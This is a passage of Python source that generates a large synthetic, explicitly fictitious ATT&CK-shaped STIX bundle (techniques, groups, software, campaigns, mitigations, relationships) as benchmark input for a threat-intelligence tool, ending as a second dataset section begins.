                if cite_pool and rng.random() < cite_rate:
                    names = distinct(rng, cite_pool, rng.choice([1, 1, 1, 2, 3]))
                    cited += [n for n in names if n not in cited]
                    s += self.cite(names)
                parts.append(s)
            paras.append(" ".join(parts))
        return "\n\n".join(paras), cited

    def refs_for(self, names):
        return [self.refs[n] for n in names]

    # objects -------------------------------------------------------------------------------------
    def build(self):
        rng = self.rng
        self.generic_refs = [self.make_ref(rng.choice(TECHNIQUE_WORDS_A) + " " + rng.choice(TECHNIQUE_WORDS_B))
                             for _ in range(1500)]
        tactics = self.make_tactics()
        matrix = self.make_matrix(tactics)
        techniques = self.make_techniques(tactics)
        data_sources, components = self.make_data_sources()
        strategies, analytics = self.make_detections(techniques, components)
        mitigations = self.make_mitigations(techniques)
        groups = self.make_groups()
        software = self.make_software()
        campaigns = self.make_campaigns(groups)
        relationships = self.make_relationships(techniques, mitigations, groups, software, campaigns, strategies)
        identity = {"modified": self.release_stamps[-1], "name": "Synthetic ATT&CK-like Benchmark Corpus",
                    "description": "Fictitious content generated by ThreatDeck's Benchmarks/generate-large-inputs.py. "
                                   "Not MITRE ATT&CK and not intelligence.",
                    "identity_class": "organization", "type": "identity", "id": self.identity,
                    "created": "2017-06-01T00:00:00.000Z", "object_marking_refs": [self.marking],
                    "x_mitre_attack_spec_version": "3.2.0"}
        marking = {"definition": {"statement": "SYNTHETIC benchmark data generated for ThreatDeck. Every name, "
                                               "description and reference is fictitious."},
                   "id": self.marking, "type": "marking-definition", "created": "2017-06-01T00:00:00.000Z",
                   "created_by_ref": self.identity, "definition_type": "statement"}
        by_id = lambda items: sorted(items, key=lambda o: o["id"])
        objects = ([matrix] + by_id(mitigations) + by_id(software) + by_id(tactics) + by_id(techniques)
                   + by_id(analytics) + by_id(components) + by_id(data_sources) + by_id(campaigns + groups)
                   + by_id(strategies) + by_id(relationships) + [identity, marking])
        for k, o in enumerate(objects):
            for key in [k for k in o if k.startswith("_")]:
                del o[key]
            objects[k] = {"type": o["type"], "spec_version": "2.1", **{key: v for key, v in o.items() if key != "type"}}
        return {"type": "bundle", "id": self.new_id("bundle"), "objects": objects}

    def make_tactics(self):
        out = []
        for ext, name, short in TACTICS:
            created, c, m = self.created_modified(EPOCH, EPOCH + dt.timedelta(days=600))
            desc, cited = self.paragraphs(self.rng.randint(1, 2), (3, 6), [], cite_rate=0)
            o = {"type": "x-mitre-tactic", "id": self.new_id("x-mitre-tactic"), "created": c,
                 "created_by_ref": self.identity, "revoked": False,
                 "external_references": [self.mitre_ref(f"tactics/{ext}", ext)],
                 "object_marking_refs": [self.marking], "modified": m, "name": name,
                 "description": f"The adversary is trying to {TACTIC_GOALS[short]}.\n\n" + desc,
                 **self.common_tail(self.version(), spec=self.spec()), "x_mitre_shortname": short}
            o["_url"] = f"https://attack.mitre.org/tactics/{ext}"
            out.append(o)
        return out

    def make_matrix(self, tactics):
        return {"type": "x-mitre-matrix", "id": self.new_id("x-mitre-matrix"), "created": "2018-10-17T00:14:20.652Z",
                "created_by_ref": self.identity,
                "external_references": [self.mitre_ref("matrices/enterprise/", "enterprise-attack")],
                "object_marking_refs": [self.marking], "modified": self.release_stamps[-1],
                "name": "Enterprise ATT&CK (synthetic)",
                "description": "A synthetic matrix shaped like ATT&CK for Enterprise; every technique below it is "
                               "generated.", "tactic_refs": [t["id"] for t in tactics],
                **self.common_tail("1.0")}

    def make_techniques(self, tactics):
        rng = self.rng
        n_parents, n_subs, n_revoked, n_deprecated = 232, 508, 60, 40
        ids = rng.sample(range(1001, 1700), n_parents + n_revoked)
        parents, out = [], []
        names = [f"{a} {b}" for a in TECHNIQUE_WORDS_A for b in TECHNIQUE_WORDS_B]
        parent_names = rng.sample(names, n_parents + n_revoked)

        def technique(ext, name, sub_of=None, deprecated=False):
            created, c, m = self.created_modified()
            url = f"https://attack.mitre.org/techniques/{ext.replace('.', '/')}"
            if sub_of:
                phases = sub_of["kill_chain_phases"]
            else:
                chosen = distinct(rng, tactics, pick_weighted(rng, [1, 2, 3], [75, 20, 5]), TACTIC_WEIGHTS)
                phases = [{"kill_chain_name": "mitre-attack", "phase_name": t["x_mitre_shortname"]} for t in chosen]
            own = [self.make_ref(name) for _ in range(rng.randint(0, 2))]
            pool = own + distinct(rng, self.generic_refs, rng.randint(1, 6))
            desc, cited = self.paragraphs(rng.randint(1, 3), (2, 4), pool, parents[-40:] or None)
            if deprecated:
                desc = "**This technique has been deprecated and should no longer be used.**\n\n" + desc
            o = {"type": "attack-pattern", "id": self.new_id("attack-pattern"), "created": c,
                 "created_by_ref": self.identity, "revoked": False,
                 "external_references": [self.mitre_ref(url.split(".org/")[1], ext)] + self.refs_for(cited),
                 "object_marking_refs": [self.marking], "modified": m, "name": name, "description": desc,
                 "kill_chain_phases": [dict(p) for p in phases], "x_mitre_attack_spec_version": self.spec(),
                 "x_mitre_deprecated": deprecated,
                 "x_mitre_detection": "" if rng.random() < 0.7 else self.paragraphs(1, (1, 3), [])[0],
                 "x_mitre_domains": ["enterprise-attack"], "x_mitre_is_subtechnique": sub_of is not None,
                 "x_mitre_modified_by_ref": self.identity,
                 "x_mitre_platforms": distinct(rng, PLATFORMS, rng.randint(1, 5), [9, 7, 6, 3, 3, 2, 2, 2, 2, 1]),
                 "x_mitre_version": self.version()}
            if rng.random() < 0.2:
                o["x_mitre_contributors"] = [f"{rng.choice(SURNAMES)} {rng.choice('ABCDEFGHJKLMNPRSTVW')}., "
                                             f"{rng.choice(VENDORS)[0]}" for _ in range(rng.randint(1, 3))]
            if any(p["phase_name"] == "defense-evasion" for p in phases):
                o["x_mitre_defense_bypassed"] = distinct(rng, ["Anti-virus", "Application Control", "Host forensic analysis",
                                                               "Signature-based detection", "Log analysis",
                                                               "Digital Certificate Validation"], rng.randint(1, 3))
            if rng.random() < 0.3:
                o["x_mitre_permissions_required"] = distinct(rng, ["User", "Administrator", "SYSTEM", "root"],
                                                             rng.randint(1, 2))
            if rng.random() < 0.08:
                o["x_mitre_remote_support"] = rng.random() < 0.5
            if rng.random() < 0.1:
                o["x_mitre_system_requirements"] = [self.sentence()]
            o["_url"], o["_ext"], o["_active"] = url, ext, not deprecated
            return o

        for i in range(n_parents):
            ext = f"T{ids[i]}"
            p = technique(ext, parent_names[i], deprecated=i < 15)
            parents.append(p)
            out.append(p)
        # sub-techniques: spread over about half of the parents, a few parents get ten or more
        with_subs = [p for p in parents[15:] if rng.random() < 0.5]
        weights = [rng.paretovariate(1.3) for _ in with_subs]
        counts = {p["id"]: 0 for p in with_subs}
        for _ in range(n_subs):  # at most 16 sub-techniques per technique, as in ATT&CK
            open_ = [i for i, p in enumerate(with_subs) if counts[p["id"]] < 16]
            i = rng.choices(open_, weights=[weights[i] for i in open_])[0]
            counts[with_subs[i]["id"]] += 1
        for p in with_subs:
            names_here = distinct(rng, SUBTECHNIQUE_NAMES, counts[p["id"]])
            for k, sub in enumerate(names_here, 1):
                s = technique(f"{p['_ext']}.{k:03d}", sub, sub_of=p,
                              deprecated=rng.random() < (n_deprecated - 15) / n_subs)
                s["_parent"] = p
                out.append(s)
        # revoked techniques keep little more than their name and id, as in ATT&CK
        for i in range(n_revoked):
            ext = f"T{ids[n_parents + i]}"
            created, c, m = self.created_modified()
            o = {"type": "attack-pattern", "id": self.new_id("attack-pattern"), "created": c,
                 "created_by_ref": self.identity, "revoked": True,
                 "external_references": [self.mitre_ref(f"techniques/{ext}", ext)],
                 "object_marking_refs": [self.marking], "modified": m, "name": parent_names[n_parents + i],
                 "description": self.paragraphs(1, (1, 3), [])[0], "x_mitre_domains": ["enterprise-attack"],
                 "x_mitre_modified_by_ref": self.identity, "x_mitre_version": "1.0",
                 "x_mitre_attack_spec_version": "3.2.0"}
            o["_revoked_by"] = rng.choice([t for t in parents if t["_active"]])
            o["_url"], o["_ext"], o["_active"] = f"https://attack.mitre.org/techniques/{ext}", ext, False
            out.append(o)
        return out

    def make_data_sources(self):
        rng = self.rng
        sources, components = [], []
        for i, name in enumerate(DATA_SOURCES, 1):
            created, c, m = self.created_modified(dt.datetime(2021, 10, 20, tzinfo=dt.timezone.utc))
            ext = f"DS{i:04d}"
            sources.append({"type": "x-mitre-data-source", "id": self.new_id("x-mitre-data-source"), "created": c,
                            "created_by_ref": self.identity, "revoked": False,
                            "external_references": [self.mitre_ref(f"datasources/{ext}", ext)],
                            "object_marking_refs": [self.marking], "modified": m, "name": name,
                            "description": self.sentence(), "x_mitre_modified_by_ref": self.identity,
                            "x_mitre_platforms": distinct(rng, PLATFORMS, rng.randint(1, 8)),
                            "x_mitre_deprecated": True, "x_mitre_domains": ["enterprise-attack"],
                            "x_mitre_version": "1.2", "x_mitre_attack_spec_version": "3.2.0",
                            "x_mitre_contributors": ["Center for Threat-Informed Defense (CTID)"],
                            "x_mitre_collection_layers": distinct(rng, ["Host", "Network", "Cloud Control Plane",
                                                                        "Container", "OSINT"], rng.randint(1, 3))})
        pairs = [(s, a) for s in sources for a in DC_ACTIONS]
        for k, index in enumerate(sorted(rng.sample(range(len(pairs)), 106)), 1):
            source, action = pairs[index]
            created, c, m = self.created_modified(dt.datetime(2021, 10, 20, tzinfo=dt.timezone.utc))
            ext = f"DC{k:04d}"
            name = f"{source['name']} {action}"
            bullets = "\n".join(f"- {rng.choice(LOG_SOURCES)[0]}\n    - {self.sentence()}" for _ in range(rng.randint(2, 5)))
            desc = f"{self.sentence()} {self.sentence()}\n\n*Data Collection Measures:*\n\n{bullets}"
            logs = []
            for _ in range(rng.randint(10, 60)):
                src, channels = rng.choice(LOG_SOURCES)
                logs.append({"name": src, "channel": rng.choice(channels)})
            o = {"type": "x-mitre-data-component", "id": self.new_id("x-mitre-data-component"), "created": c,
                 "created_by_ref": self.identity, "revoked": False,
                 "external_references": [self.mitre_ref(f"datacomponents/{ext}", ext)],
                 "object_marking_refs": [self.marking], "modified": m, "name": name, "description": desc}
            if rng.random() < 0.4:
                o["x_mitre_data_source_ref"] = source["id"]
            o.update({"x_mitre_modified_by_ref": self.identity, "x_mitre_deprecated": False,
                      "x_mitre_domains": ["enterprise-attack"], "x_mitre_version": "2.0",
                      "x_mitre_attack_spec_version": "3.3.0", "x_mitre_log_sources": logs})
            components.append(o)
        return sources, components

    def make_detections(self, techniques, components):
        rng = self.rng
        strategies, analytics = [], []
        stamp = self.release_stamps[-1]
        number = 0
        targets = [t for t in techniques if t["_active"]]
        for k, t in enumerate(targets, 1):
            det = f"DET{k:04d}"
            refs = []
            for _ in range(pick_weighted(rng, [1, 2, 3, 4, 5], [15, 28, 30, 17, 10])):
                number += 1
                an = f"AN{number:04d}"
                lines = [self.sentence() for _ in range(rng.randint(1, 2))]
                chosen = distinct(rng, components, rng.randint(1, 3))
                a = {"type": "x-mitre-analytic", "id": self.new_id("x-mitre-analytic"), "created": stamp,
                     "created_by_ref": self.identity,
                     "external_references": [self.mitre_ref(f"detectionstrategies/{det}#{an}", an)],
                     "object_marking_refs": [self.marking], "modified": stamp, "name": f"Analytic {number:04d}",
                     "description": "\n".join(lines), "x_mitre_modified_by_ref": self.identity,
                     "x_mitre_version": "1.0", "x_mitre_attack_spec_version": "3.3.0",
                     "x_mitre_domains": ["enterprise-attack"], "x_mitre_platforms": [rng.choice(PLATFORMS)],
                     "x_mitre_log_source_references": [
                         {"x_mitre_data_component_ref": dc["id"], "name": rng.choice(LOG_SOURCES)[0],
                          "channel": rng.choice(["None", "None"] + rng.choice(LOG_SOURCES)[1])} for dc in chosen],
                     "x_mitre_deprecated": False}
                analytics.append(a)
                refs.append(a["id"])
            strategies.append({"type": "x-mitre-detection-strategy", "id": self.new_id("x-mitre-detection-strategy"),
                               "created": stamp, "created_by_ref": self.identity,
                               "external_references": [self.mitre_ref(f"detectionstrategies/{det}", det)],
                               "object_marking_refs": [self.marking], "modified": stamp,
                               "name": f"Detection of {t['name']}", "x_mitre_modified_by_ref": self.identity,
                               "x_mitre_version": "1.0", "x_mitre_attack_spec_version": "3.3.0",
                               "x_mitre_domains": ["enterprise-attack"], "x_mitre_analytic_refs": refs,
                               "x_mitre_deprecated": False, "_detects": t})
        return strategies, analytics

    def make_mitigations(self, techniques):
        rng = self.rng
        out = []
        for k, name in enumerate(MITIGATION_NAMES):
            ext = f"M{1013 + k}"
            created, c, m = self.created_modified(dt.datetime(2019, 6, 6, tzinfo=dt.timezone.utc))
            desc, cited = self.paragraphs(rng.randint(1, 2), (1, 4), distinct(rng, self.generic_refs, 3), cite_rate=0.2)
            o = {"type": "course-of-action", "id": self.new_id("course-of-action"), "created": c,
                 "created_by_ref": self.identity, "revoked": False,
                 "external_references": [self.mitre_ref(f"mitigations/{ext}", ext)] + self.refs_for(cited),
                 "object_marking_refs": [self.marking], "modified": m, "name": name, "description": desc}
            if rng.random() < 0.8:
                o["labels"] = [f"NIST SP 800-53 Rev. 5 - {rng.choice(['AC', 'AU', 'CM', 'IA', 'SC', 'SI'])}-{rng.randint(1, 40)}"
                               for _ in range(rng.randint(1, 4))]
            o.update(self.common_tail(self.version(), spec=self.spec()))
            o["_url"], o["_active"] = f"https://attack.mitre.org/mitigations/{ext}", True
            out.append(o)
        # ATT&CK keeps old per-technique mitigations, deprecated, with the technique's id
        old = distinct(rng, [t for t in techniques if t.get("x_mitre_is_subtechnique") is False], 220)
        for t in old:
            created, c, m = self.created_modified(EPOCH, dt.datetime(2019, 6, 1, tzinfo=dt.timezone.utc))
            o = {"type": "course-of-action", "id": self.new_id("course-of-action"), "created": c,
                 "created_by_ref": self.identity, "revoked": False,
                 "external_references": [self.mitre_ref(f"mitigations/{t['_ext']}", t["_ext"])],
                 "object_marking_refs": [self.marking], "modified": m, "name": f"{t['name']} Mitigation",
                 "description": self.paragraphs(1, (2, 5), [])[0], **self.common_tail("1.0", deprecated=True)}
            o["_url"], o["_active"], o["_for"] = f"https://attack.mitre.org/mitigations/{t['_ext']}", False, t
            out.append(o)
        return out

    def group_name(self):
        rng = self.rng
        roll = rng.random()
        if roll < 0.45:
            return f"{rng.choice(NAME_WORDS)} {rng.choice(['Team', 'Group', 'Collective', 'Syndicate', 'Circle', 'Crew', 'Unit', 'Cell', 'Guild'])}"
        if roll < 0.8:
            return self.coined((2, 3))
        return f"{rng.choice(['TGX', 'KRT', 'ZQ', 'VNX', 'OBL'])}-{rng.randint(100, 9999)}"

    def make_groups(self):
        rng = self.rng
        nexuses = ["CN", "RU", "KP", "IR", "IN", "PK", "VN", "KR", "ecrime", "hacktivist", None]
        nexus_weights = [34, 18, 10, 12, 3, 2, 2, 2, 9, 2, 10]
        out = []
        for k in range(172):
            ext = f"G{k + 1:04d}"
            nexus = pick_weighted(rng, nexuses, nexus_weights)
            name = self.unique(self.group_name)
            aliases = [name]
            if nexus in ANIMAL_OF_NEXUS or nexus == "ecrime" or nexus == "hacktivist":
                animal = ANIMAL_OF_NEXUS.get(nexus) or ("Spider" if nexus == "ecrime" else "Jackal")
                if rng.random() < 0.75:
                    aliases.append(self.unique(lambda: f"{rng.choice(NAME_WORDS)} {animal}"))
            if nexus in WEATHER and rng.random() < 0.35:
                aliases.append(self.unique(lambda: f"{rng.choice(MS_WORDS)} {WEATHER[nexus]}"))
            if rng.random() < 0.04:  # conflicting vendor names, as happens when clusters are merged
                other = rng.choice(["Panda", "Bear", "Kitten", "Chollima"])
                aliases.append(self.unique(lambda: f"{rng.choice(NAME_WORDS)} {other}"))
            for _ in range(rng.choice([0, 0, 1, 1, 2, 3, 4, 6])):
                aliases.append(self.unique(lambda: rng.choice([
                    f"{rng.choice(['TGX', 'KRT', 'ZQ', 'VNX', 'OBL'])}-{rng.randint(100, 9999)}",
                    self.coined((2, 2)).upper(), f"{rng.choice(NAME_WORDS)} {rng.choice(['Team', 'Group', 'Crew'])}",
                    f"Operation {rng.choice(NAME_WORDS)} {rng.choice(NAME_WORDS)}"])))
            for pool, share in ((CJK_ALIASES, 0.06), (ACCENT_ALIASES, 0.05)):
                free = [n for n in pool if n.casefold() not in self.used_names]
                if free and rng.random() < share:
                    aliases.append(self.unique(lambda: rng.choice(free)))
            created, c, m = self.created_modified()
            since = rng.randint(2004, 2023)
            own = [self.make_ref(name, rng.randint(max(2012, since), 2025)) for _ in range(rng.randint(2, 14))]
            alias_refs = [{"source_name": a, "description": self.cite(distinct(rng, own, rng.randint(1, 3)))}
                          for a in aliases]
            url = f"https://attack.mitre.org/groups/{ext}"
            lead = (f"[{name}]({url}) is {rng.choice(NEXUS_PHRASES[nexus])} that has been active since at least "
                    f"{since}.{self.cite(distinct(rng, own, rng.randint(1, 2)))} [{name}]({url}) has targeted "
                    f"{', '.join(distinct(rng, INDUSTRY_WORDS, rng.randint(1, 4)))} organizations in "
                    f"{' and '.join(distinct(rng, AREA_WORDS, rng.randint(1, 2)))}.{self.cite(distinct(rng, own, 1))}")
            more, cited = self.paragraphs(rng.choice([0, 1, 1, 2]), (1, 3), own)
            desc = lead + ("\n\n" + more if more else "")
            cited_all = [n for n in own if n in desc or any(n in r["description"] for r in alias_refs)]
            o = {"modified": m, "name": name, "description": desc, "aliases": aliases,
                 "x_mitre_deprecated": False, "x_mitre_version": self.version()}
            if rng.random() < 0.5:
                o["x_mitre_contributors"] = [f"{rng.choice(SURNAMES)}, {rng.choice(VENDORS)[0]}"
                                             for _ in range(rng.randint(1, 3))]
            o.update({"type": "intrusion-set", "id": self.new_id("intrusion-set"), "created": c,
                      "created_by_ref": self.identity, "revoked": False,
                      "external_references": [self.mitre_ref(f"groups/{ext}", ext)] + alias_refs + self.refs_for(cited_all),
                      "object_marking_refs": [self.marking], "x_mitre_attack_spec_version": self.spec(),
                      "x_mitre_modified_by_ref": self.identity, "x_mitre_domains": ["enterprise-attack"]})
            o["_url"], o["_refs"], o["_active"], o["_nexus"] = url, own, True, nexus
            out.append(o)
        # a few groups are deprecated, a few revoked (merged into another group)
        for o in rng.sample(out, 5):
            o["x_mitre_deprecated"] = True
            o["_active"] = False
        for o in rng.sample([g for g in out if g["_active"]], 12):
            o["revoked"] = True
            o["_active"] = False
            o["_revoked_by"] = rng.choice([g for g in out if g["_active"]])
        return out

    def software_name(self, kind):
        rng = self.rng
        base = self.coined((2, 3))
        if kind == "tool":
            return rng.choice([base, base.lower(), base + "Exec", base + "Dump", base + "Tunnel", base + " Kit"])
        style = rng.random()
        if style < 0.25:
            return base.upper()
        return base + rng.choice(MALWARE_SUFFIXES)

    def make_software(self):
        rng = self.rng
        out = []
        numbers = rng.sample(range(1, 1300), 702)
        for k in range(702):
            kind = "tool" if k % 8 == 7 else "malware"  # about 90 tools, as in ATT&CK
            ext = f"S{numbers[k]:04d}"
            name = self.unique(lambda: self.software_name(kind))
            aliases = [name]
            for _ in range(rng.choice([0, 0, 0, 1, 1, 2, 3])):
                aliases.append(self.unique(lambda: rng.choice([
                    f"Win32/{name.replace(' ', '')}.{rng.choice('ABCDE')}", f"Trojan.{self.coined((2, 2))}",
                    self.coined((2, 3)).upper(), f"{self.coined((2, 2))}{rng.choice(['', 'Loader', ' RAT'])}"])))
            created, c, m = self.created_modified()
            own = [self.make_ref(name) for _ in range(rng.randint(1, 8))]
            url = f"https://attack.mitre.org/software/{ext}"
            lead = (f"[{name}]({url}) is a {rng.choice(['remote access tool', 'backdoor', 'downloader', 'credential stealer', 'ransomware family', 'modular implant', 'wiper', 'loader'])} "
                    f"{rng.choice(['written in C++', 'written in Go', 'written in Rust', 'written in .NET', 'implemented as a PowerShell script', 'delivered as a DLL'])} "
                    f"that has been used since at least {rng.randint(2008, 2024)}.{self.cite(distinct(rng, own, 1))}")
            more, cited = self.paragraphs(rng.choice([0, 0, 0, 1, 1, 2]), (1, 3), own)
            desc = lead + (" " + more if more else "")
            alias_refs = [{"source_name": a, "description": self.cite(distinct(rng, own, rng.randint(1, 2)))}
                          for a in aliases]
            cited_all = [n for n in own if n in desc or any(n in r["description"] for r in alias_refs)]
            o = {"type": kind, "id": self.new_id(kind), "created": c, "created_by_ref": self.identity,
                 "revoked": False,
                 "external_references": [self.mitre_ref(f"software/{ext}", ext)] + alias_refs + self.refs_for(cited_all),
                 "object_marking_refs": [self.marking], "modified": m, "name": name, "description": desc}
            if kind == "malware":
                o["is_family"] = True
            o["x_mitre_modified_by_ref"] = self.identity
            o["x_mitre_platforms"] = distinct(rng, PLATFORMS[:4] + ["Android", "iOS", "Network Devices", "ESXi"],
                                              rng.randint(1, 3), [10, 5, 4, 1, 1, 1, 1, 1])
            o.update({"x_mitre_deprecated": False, "x_mitre_domains": ["enterprise-attack"],
                      "x_mitre_version": self.version(), "x_mitre_attack_spec_version": self.spec(),
                      "x_mitre_aliases": aliases})
            if rng.random() < 0.15:
                o["x_mitre_contributors"] = [f"{rng.choice(SURNAMES)}, {rng.choice(VENDORS)[0]}"]
            o["_url"], o["_refs"], o["_active"] = url, own, True
            out.append(o)
        for o in rng.sample(out, 10):
            o["x_mitre_deprecated"] = True
            o["_active"] = False
        for o in rng.sample([s for s in out if s["_active"]], 12):
            o["revoked"] = True
            o["_active"] = False
            o["_revoked_by"] = rng.choice([s for s in out if s["_active"] and s["type"] == o["type"]])
        return out

    def make_campaigns(self, groups):
        rng = self.rng
        out = []
        active_groups = [g for g in groups if g["_active"]]
        for k in range(52):
            ext = f"C{k + 1:04d}"
            name = ext if rng.random() < 0.35 else self.unique(
                lambda: f"Operation {rng.choice(NAME_WORDS)} {rng.choice(NAME_WORDS)}"
                if rng.random() < 0.7 else f"{rng.randint(2015, 2025)} {rng.choice(NAME_WORDS)} Intrusions")
            first = dt.datetime(rng.randint(2014, 2024), rng.randint(1, 12), 1, 5 if rng.random() < 0.5 else 4,
                                tzinfo=dt.timezone.utc)
            last = min(first + dt.timedelta(days=rng.randint(20, 900)), dt.datetime(2025, 9, 1, 4, tzinfo=dt.timezone.utc))
            last = last.replace(day=1)
            own = [self.make_ref(name, first.year + rng.randint(0, 1)) for _ in range(rng.randint(1, 6))]
            url = f"https://attack.mitre.org/campaigns/{ext}"
            group = rng.choice(active_groups) if rng.random() < 0.7 else None
            lead = f"[{name}]({url}) was a {rng.choice(['cyber espionage', 'ransomware', 'supply chain', 'credential theft', 'destructive'])} campaign"
            if group:
                lead += f" conducted by [{group['name']}]({group['_url']})"
            lead += (f" that targeted {rng.choice(INDUSTRY_WORDS)} organizations in {rng.choice(AREA_WORDS)} "
                     f"from {MONTHS[first.month - 1]} {first.year} to {MONTHS[last.month - 1]} {last.year}."
                     f"{self.cite(distinct(rng, own, rng.randint(1, 2)))}")
            more, cited = self.paragraphs(rng.choice([0, 1, 1]), (1, 3), own)
            desc = lead + (" " + more if more else "")
            created, c, m = self.created_modified(dt.datetime(2022, 9, 1, tzinfo=dt.timezone.utc))
            cite_first, cite_last = self.cite([own[0]]), self.cite([own[-1]])
            cited_all = [n for n in own if n in desc or n in cite_first + cite_last]
            o = {"modified": m, "name": name, "description": desc, "aliases": [name],
                 "first_seen": self.stamp(first, True), "last_seen": self.stamp(last, True),
                 "x_mitre_first_seen_citation": cite_first, "x_mitre_last_seen_citation": cite_last,
                 "x_mitre_deprecated": False, "x_mitre_version": self.version(), "type": "campaign",
                 "id": self.new_id("campaign"), "created": c, "created_by_ref": self.identity, "revoked": False,
                 "external_references": [self.mitre_ref(f"campaigns/{ext}", ext)] + self.refs_for(cited_all),
                 "object_marking_refs": [self.marking], "x_mitre_attack_spec_version": self.spec(),
                 "x_mitre_modified_by_ref": self.identity, "x_mitre_domains": ["enterprise-attack"]}
            o["_url"], o["_refs"], o["_active"], o["_group"] = url, own, True, group
            out.append(o)
        out[-1]["x_mitre_deprecated"], out[-1]["_active"] = True, False
        return out

    def relationship(self, kind, source, target, description=None, cited=(), deprecated=False, revoked_field=True):
        if kind == "detects":  # detection strategies and their links arrived together in one release
            c = m = self.release_stamps[-1]
        else:  # a relationship is no older than either end
            ends = [dt.datetime.fromisoformat(x["created"]).replace(microsecond=0) + dt.timedelta(seconds=1)
                    for x in (source, target)]
            created, c, m = self.created_modified(max([dt.datetime(2019, 1, 1, tzinfo=dt.timezone.utc)] + ends))
        o = {"type": "relationship", "id": self.new_id("relationship"), "created": c, "created_by_ref": self.identity}
        if revoked_field and self.rng.random() < 0.75:  # ATT&CK omits it on about a quarter
            o["revoked"] = False
        if cited:
            o["external_references"] = self.refs_for(cited)
        o["object_marking_refs"] = [self.marking]
        o["modified"] = m
        if description is not None:
            o["description"] = description
        o.update({"relationship_type": kind, "source_ref": source["id"], "target_ref": target["id"],
                  "x_mitre_modified_by_ref": self.identity, "x_mitre_deprecated": deprecated,
                  "x_mitre_attack_spec_version": self.spec()})
        return o

    def uses_text(self, source, target, refs):
        rng = self.rng
        subject = self.link(source)
        if source["type"] == "campaign":
            subject = rng.choice([f"During {subject},", f"For {subject},", f"In {subject},"])
            actor = rng.choice(["the threat actors", "threat actors", "the operators"])
            head = f"{subject} {actor}"
        else:
            head = subject
        obj = rng.choice(OBJECTS)
        if target["type"] == "attack-pattern":
            purpose = f" {rng.choice(PURPOSES)}" if rng.random() < 0.5 else ""
            forms = [f"{head} {rng.choice(['has used', 'can use', 'used', 'has leveraged'])} {obj}{purpose}.",
                     f"{head} {rng.choice(['has the ability to', 'can', 'has been observed to'])} {rng.choice(VERBS)} {obj}.",
                     f"{head} {rng.choice(['has executed', 'ran', 'can run'])} `{rng.choice(COMMANDS)}`{purpose}."]
        else:
            forms = [f"{head} {rng.choice(['has used', 'used', 'has deployed', 'has leveraged'])} {self.link(target)} "
                     f"{rng.choice(['in operations against', 'against', 'to target'])} {rng.choice(INDUSTRY_WORDS)} organizations."]
        text = rng.choice(forms)
        if rng.random() < 0.03:
            text += " " + self.sentence()
        roll = rng.random()
        names = [] if roll < UNCITED_USES else distinct(rng, refs, 1 if roll < 0.95 else 2)
        return text + self.cite(names), names

    def make_relationships(self, techniques, mitigations, groups, software, campaigns, strategies):
        rng = self.rng
        rels = []
        active_t = [t for t in techniques if t["_active"]]
        popularity = [rng.paretovariate(1.1) for _ in active_t]
        active_sw = [s for s in software if s["_active"]]
        sw_popularity = [rng.paretovariate(1.5) for _ in active_sw]

        # How many "uses" each source gets: heavy-tailed like ATT&CK (a few groups and tools use 100+
        # techniques), scaled so that the bundle holds about USES_TOTAL of them.
        plan = []
        for g in groups:
            if g["_active"] or g["x_mitre_deprecated"]:
                plan.append((g, rng.lognormvariate(2.9, 0.9), active_t, popularity))
                plan.append((g, rng.lognormvariate(1.2, 1.0) - 1, active_sw, sw_popularity))
        for s in software:
            if s["_active"] or s["x_mitre_deprecated"]:
                plan.append((s, rng.lognormvariate(2.55 if s["type"] == "malware" else 2.0, 0.8), active_t, popularity))
        for camp in campaigns:
            plan.append((camp, rng.lognormvariate(3.0, 0.7), active_t, popularity))
            plan.append((camp, rng.uniform(-1, 6), active_sw, sw_popularity))
        scale = USES_TOTAL / sum(max(0.0, raw) for _, raw, _, _ in plan)
        for source, raw, pool, weights in plan:
            count = max(1 if pool is active_t else 0, round(raw * scale))
            for target in distinct(rng, pool, count, weights):
                text, cited = self.uses_text(source, target, source["_refs"])
                rels.append(self.relationship("uses", source, target, text, cited, deprecated=rng.random() < 0.004))
        for camp in campaigns:
            if camp["_group"]:
                text = (f"{self.link(camp)} was conducted by {self.link(camp['_group'])}."
                        f"{self.cite([camp['_refs'][0]])}")
                rels.append(self.relationship("attributed-to", camp, camp["_group"], text, [camp["_refs"][0]]))
        active_m = [m for m in mitigations if m["_active"]]
        raw = [rng.lognormvariate(3.0, 0.8) for _ in active_m]
        scale = (MITIGATES_TOTAL - (len(mitigations) - len(active_m))) / sum(raw)
        for m in mitigations:
            targets = distinct(rng, active_t, max(2, round(raw.pop(0) * scale))) if m["_active"] else [m["_for"]]
            for t in targets:
                desc, cited = self.paragraphs(1, (1, 1), distinct(rng, self.generic_refs, 2), cite_rate=0.4)
                rels.append(self.relationship("mitigates", m, t, desc, cited, deprecated=not m["_active"]))
        for s in strategies:
            rels.append(self.relationship("detects", s, s["_detects"], "", revoked_field=False, ))
            del s["_detects"]
        for t in techniques:
            if "_parent" in t:
                rels.append(self.relationship("subtechnique-of", t, t["_parent"], revoked_field=False))
        for o in techniques + groups + software:
            if "_revoked_by" in o:
                rels.append(self.relationship("revoked-by", o, o["_revoked_by"], revoked_field=False))
        return rels


def bundle_text(bundle):
    text = json.dumps(bundle, indent=4, ensure_ascii=False)
    # ATT&CK writes every non-ASCII character as a \u escape; keep letters (é, ü, CJK) as UTF-8 here so
    # readers meet both forms, and escape the typographic punctuation ATT&CK's texts are full of.
    for ch in "\u2019\u2018\u201c\u201d\u2013\u2014\u00a0":  # ’ ‘ “ ” – — no-break space
        text = text.replace(ch, f"\\u{ord(ch):04x}")
    return text.encode("utf-8")


# --- native dataset -------------------------------------------------------------------------------

START = dt.date(2016, 1, 1)
END = dt.date(2026, 6, 30)
SOURCE = "benchmark-generator"
SECTORS_BY_TYPE = {
    "state": ["government", "government-national", "diplomacy", "defense", "military", "defense-industrial-base",
              "aerospace", "technology", "ai-research", "semiconductors", "cloud", "software", "it-services",
              "telecommunications", "energy", "oil-gas", "research", "education", "media", "civil-society",
              "manufacturing", "maritime", "aviation", "cryptocurrency", "financial-services", "healthcare",
              "pharmaceuticals", "infrastructure", "legal"],
    "ecrime": ["healthcare", "manufacturing", "retail", "financial-services", "insurance", "education", "logistics",
               "technology", "software", "it-services", "construction", "hospitality-leisure", "legal",
               "government-local", "transportation", "automotive", "cryptocurrency", "gaming", "commercial"],
    "hacktivist": ["government", "government-national", "government-local", "media", "transportation", "rail",
                   "aviation", "financial-services", "utilities", "infrastructure-water", "energy", "education"],
    "unknown": ["technology", "software", "it-services", "telecommunications", "government", "energy", "healthcare",
                "manufacturing", "education", "other", "chemical", "mining", "agriculture", "non-profit"],
}
REGION_COUNTRIES = {
